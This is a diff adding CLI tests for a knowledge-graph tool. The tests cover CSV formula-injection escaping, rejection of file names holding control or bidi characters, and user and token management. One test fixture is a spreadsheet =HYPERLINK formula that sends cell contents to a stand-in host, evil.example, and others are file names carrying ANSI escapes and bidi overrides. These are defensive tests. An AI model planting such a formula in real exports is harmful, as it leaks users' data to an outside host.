@@ -193,3 +193,82 @@ describe('kg CLI errors', () => {
     }
   }, 120_000);
 });
+
+describe('kg export --format csv: formula injection (issue 10)', () => {
+  it('a document titled =HYPERLINK(…) exports as text, not as a formula', async () => {
+    const tmp = await tempDir('kg-csv-');
+    try {
+      const file = path.join(tmp.dir, 'evil.txt');
+      await writeFile(file, '某区措施\n一、主要任务\n1.支持企业研发。（牵头单位：区科技局）\n');
+      // The title comes from the curated meta.json beside the documents (as a user would write it).
+      await writeFile(path.join(tmp.dir, 'meta.json'), JSON.stringify({ 'evil.txt': { title: '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")' } }));
+      expect((await runCli(['ingest', file, '--data', tmp.dir])).code).toBe(0);
+      const out = path.join(tmp.dir, 'csv');
+      expect((await runCli(['export', '--format', 'csv', '--out', out, '--data', tmp.dir])).code).toBe(0);
+      const csv = await readFile(path.join(out, 'nodes.csv'), 'utf8');
+      const row = csv.split('\n').find((l) => l.startsWith('doc:evil,'))!;
+      expect(row).toContain(`,"'=HYPERLINK(`);
+      // No cell of either file starts with a formula character.
+      for (const f of ['nodes.csv', 'edges.csv']) {
+        const text = (await readFile(path.join(out, f), 'utf8')).replace(/^\uFEFF/, '');
+        for (const line of text.split('\n')) expect(line, f).not.toMatch(/(^|,)"?[=+@]/);
+      }
+      // The JSON export keeps the exact title.
+      const json = JSON.parse((await runCli(['export', '--format', 'json', '--data', tmp.dir])).stdout) as GraphExport;
+      expect(json.nodes.find((n) => n.id === 'doc:evil')!.name).toMatch(/^=HYPERLINK/);
+    } finally {
+      await tmp.cleanup();
+    }
+  }, 60_000);
+});
+
+describe('kg ingest: file names that would break exports or collide', () => {
+  it('refuses names with newlines, ANSI escapes or bidi overrides, names them escaped, ingests the rest', async () => {
+    const tmp = await tempDir('kg-names-');
+    try {
+      const text = '某区措施\n1.支持企业研发。（牵头单位：区科技局）\n';
+      for (const n of ['a\nb.txt', '\u001b[31mred.txt', 'report\u202etxt.txt', 'ok.txt']) await writeFile(path.join(tmp.dir, n), text);
+      const r = await runCli(['ingest', tmp.dir, '--data', path.join(tmp.dir, 'data')]);
+      expect(r.code).toBe(1);
+      expect(r.stdout).toContain('ingested 1 document(s), 3 failed');
+      expect(r.stderr).toContain('\\u202e');
+      expect(r.stderr).toContain('\\u001b');
+      expect(r.stderr).not.toMatch(/[\u001b\u202e]/);
+    } finally {
+      await tmp.cleanup();
+    }
+  }, 60_000);
+});
+
+describe('kg user / kg token', () => {
+  it('adds users with roles, prints a generated password once, issues and revokes tokens', async () => {
+    const tmp = await tempDir('kg-users-');
+    try {
+      const add = await runCli(['user', 'add', '王工', '--role', 'editor', '--data', tmp.dir]);
+      expect(add.code).toBe(0);
+      const pw = /password \(shown only once\): (\S+)/.exec(add.stdout)![1]!;
+      const users = await readFile(path.join(tmp.dir, 'users.json'), 'utf8');
+      expect(users).toContain('"王工"');
+      expect(users).not.toContain(pw);
+      const tok = await runCli(['token', 'create', '--user', '王工', '--label', 'ci', '--data', tmp.dir]);
+      expect(tok.code).toBe(0);
+      expect(tok.stdout.trim()).toMatch(/^kg_[0-9a-f]{12}_\S+$/); // the token alone on stdout
+      const id = tok.stdout.trim().split('_')[1]!;
+      expect((await runCli(['user', 'role', '王工', '--role', 'admin', '--data', tmp.dir])).code).toBe(0);
+      // KG_DATA is honoured like --data (one config parser for every command).
+      expect((await runCli(['user', 'list'], { KG_DATA: tmp.dir })).stdout).toMatch(/王工\tadmin\t1 token/);
+      expect((await runCli(['token', 'revoke', id, '--data', tmp.dir])).code).toBe(0);
+      const log = await readFile(path.join(tmp.dir, 'writes.log'), 'utf8');
+      expect(log).toMatch(/"action":"user".*"detail":"add 王工 editor"/);
+      expect(log).toMatch(/"action":"token".*"detail":"revoke /);
+    } finally {
+      await tmp.cleanup();
+    }
+  }, 60_000);
+
+  it('kg serve validates PORT like npm start does (exit 2 for a bad port)', async () => {
+    const r = await runCli(['serve', '--data', data.dir], { PORT: '70000' });
+    expect(r.code).toBe(2);
+    expect(r.stderr).toMatch(/invalid port "70000"/);
+  }, 60_000);
+});
